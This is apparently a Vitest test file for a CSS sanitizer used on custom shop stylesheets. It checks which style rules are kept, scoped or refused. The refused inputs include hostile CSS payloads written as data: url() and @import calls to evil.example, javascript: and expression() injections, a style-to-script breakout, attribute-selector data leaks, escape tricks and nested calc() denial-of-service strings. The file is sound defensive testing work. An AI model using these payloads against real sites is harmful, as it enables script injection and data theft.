import { lexer } from 'css-tree';
import { afterEach, expect, test, vi } from 'vitest';
import { checkCss, cssInside } from './custom-css.ts';

const refusedOf = (css: string) => {
  const checked = checkCss(css);
  return 'refused' in checked ? checked.refused : [];
};

test('what only changes looks is kept, comments aside', () => {
  const text = `/* minha loja */
.product-card:hover, h1 > a { color: #FF0000; padding: 4px 8px !important }
body { background: linear-gradient(90deg, #fff 0%, rgb(0 0 0 / 50%)); font-family: "Open Sans", sans-serif }
@media (max-width: 600px) { .product-grid { grid-template-columns: repeat(2, minmax(0, 1fr)); } }`;
  const checked = checkCss(text);
  expect(checked).toEqual({
    css: `.product-card:hover,h1>a {
  color: #FF0000;
  padding: 4px 8px !important;
}
body {
  background: linear-gradient(90deg,#fff 0%,rgb(0 0 0/50%));
  font-family: "Open Sans",sans-serif;
}
@media (max-width:600px) {
  .product-grid {
    grid-template-columns: repeat(2,minmax(0,1fr));
  }
}`,
  });
  const { css } = checked as { css: string };
  expect(checkCss(css)).toEqual({ css });
});

test.each([
  ['@import "https://evil.example/x.css";', '@import'],
  ['@font-face { font-family: x; src: url(https://evil.example/x) }', '@font-face'],
  ['@charset "utf-8";', '@charset'],
  ['@keyframes x { from { color: red } }', '@keyframes'],
  ['@media print { a { color: red } }', '@media print'],
  ['a { background: url(https://evil.example/?c=1) }', 'background:url(https://evil.example/?c=1)'],
  ['a { background-image: image-set("https://evil.example/x" 1x) }', 'image-set'],
  ['a { background: URL( "javascript:alert(1)" ) }', 'javascript'],
  ['a { width: expression(alert(1)) }', 'expression'],
  ['a { color: var(--x) }', 'var(--x)'],
  ['a { color: attr(data-x) }', 'attr'],
  ['a { --x: url(https://evil.example) }', '--x'],
  ['a { position: fixed; top: 0 }', 'position:fixed'],
  ['a { z-index: 9 }', 'z-index'],
  ['a { behavior: none }', 'behavior'],
  ['a { -moz-binding: none }', '-moz-binding'],
  ['a { content: "x" }', 'content'],
  ['a { pointer-events: none }', 'pointer-events'],
  ['a { color: 12px }', 'color:12px'],
  ['input[value^="a"] { color: red }', '[value'],
  ['#root { color: red }', '#root'],
  ['script { color: red }', 'script'],
  ['* { color: red }', '*'],
  ['.a\\{b { color: red }', '\\'],
  ['a { color: \\72 ed }', '\\'],
  ['a::before { color: red }', '::before'],
  ['a:has(p) { color: red }', ':has'],
  ['a { & p { color: red } }', '&'],
  ['a { color: red } </style><script>alert(1)</script>', '<'],
  ['a { \\70osition: fixed }', '\\'],
  ['a { background: u\\72l(x) }', '\\'],
  [`a { width: ${'calc('.repeat(3_000)}1px${')'.repeat(3_000)} }`, '('],
])('%s is refused by name', (css, part) => {
  const refused = refusedOf(css);
  expect(refused.map((one) => one.part).join(' ')).toContain(part);
});

afterEach(() => vi.restoreAllMocks());

test.each([
  ['mais de 300 declarações', `a{${Array.from({ length: 301 }, (_, n) => `gap:${n}px 1px`).join(';')}}`],
  ['passa de 200 caracteres', `a{background:${Array(20).fill('0 0/0 0 red').join(',')},x}`],
  ['mais de 40 partes', `a{width:calc(${Array(22).fill('1px').join(' + ')})}`],
  ['no máximo 4 algarismos', 'body{height:1e9px}'],
  ['no máximo 4 algarismos', 'body{margin-top:-99999px}'],
  ['multiplica ou divide uma vez', 'a{width:calc(9999px*9999)}'],
  ['multiplica ou divide uma vez', 'a{width:calc(9999px * 2 * 2)}'],
  ['multiplica ou divide uma vez', 'a{width:calc(9999px/0.0001)}'],
  ['multiplica ou divide uma vez', 'a{width:calc(1px + calc(9999px * 12) * 12)}'],
  ['multiplica ou divide uma vez', 'a{width:calc(9999px * (10 * 10))}'],
])('%s is refused without the costly matcher having seen it', (reason, css) => {
  const matched = vi.spyOn(lexer, 'matchProperty');
  expect(refusedOf(css).map((one) => one.reason)).toEqual([expect.stringContaining(reason)]);
  // Of those before the 301st, so many as are looked at of any sheet.
  expect(matched.mock.calls.length).toBeLessThanOrEqual(css.includes('gap') ? 60 : 0);
});

test.each(['calc(100% / 3)', 'calc(100%/12 - 8px)', 'calc(2 * 8px)', 'calc(100% - 32px)'])('%s is allowed', (value) => {
  expect(refusedOf(`a{width:${value}}`)).toEqual([]);
});

test('of a sheet that holds all it may, the matcher sees a few short values', () => {
  const matched = vi.spyOn(lexer, 'matchProperty');
  const value = (n: number) => `${Array(4).fill('0 0/0 0').join(',')},${n}px`;
  expect(refusedOf(`a{${Array.from({ length: 99 }, (_, n) => `background:${value(n)}`).join(';')}}`)).toEqual([]);
  expect(matched).not.toHaveBeenCalled();
  checkCss(`a{${Array.from({ length: 300 }, (_, n) => `margin:${n}px;`).join('')}}`);
  expect(matched).toHaveBeenCalledTimes(120);
  checkCss(`a{${Array.from({ length: 300 }, (_, n) => `margin:1px 1px 1px ${n}px;`).join('')}}`);
  expect(matched).toHaveBeenCalledTimes(150);
  checkCss(`a{${'margin:1px;'.repeat(300)}}`);
  expect(matched).toHaveBeenCalledTimes(151);
});

test('every refused part is named with its line', () => {
  expect(refusedOf('a { color: red }\nb { position: fixed }\np {\n  z-index: 3 }')).toMatchObject([
    { line: 2, part: 'b' },
    { line: 2, part: 'position:fixed', reason: 'esta propriedade não é permitida' },
    { line: 4, part: 'z-index:3' },
  ]);
});

test.each([
  'a {',
  '}',
  'a { color }',
  'a { color: ; }',
  '<!-- a {} -->',
  'a { color: red; b { ',
  '"',
  '/*',
  '@',
  '@media',
])('broken css %s throws nothing, and nothing broken is kept', (css) => {
  const checked = checkCss(css);
  if ('css' in checked) expect(checkCss(checked.css)).toEqual(checked);
});

test('inside an element nothing else is reached, and body is that element', () => {
  const text = `h1, body, body.x > p, .footer a { color: red }
@media (max-width: 600px) { p { color: red } }`;
  expect(cssInside('loja', text)).toBe(`.loja h1,.loja,.loja.x>p,.loja .footer a {
  color: red;
}
@media (max-width:600px) {
  .loja p {
    color: red;
  }
}`);
});

test.each([
  'a { position: fixed }',
  '} body { display: none',
  '@import "x.css"; a { color: red }',
  '> p { color: red }',
  '+ footer { color: red }',
  'h1, body ~ footer { color: red }',
  'BODY+p { color: red }',
])('%s leaves nothing inside an element', (css) => expect(cssInside('loja', css)).toBe(''));
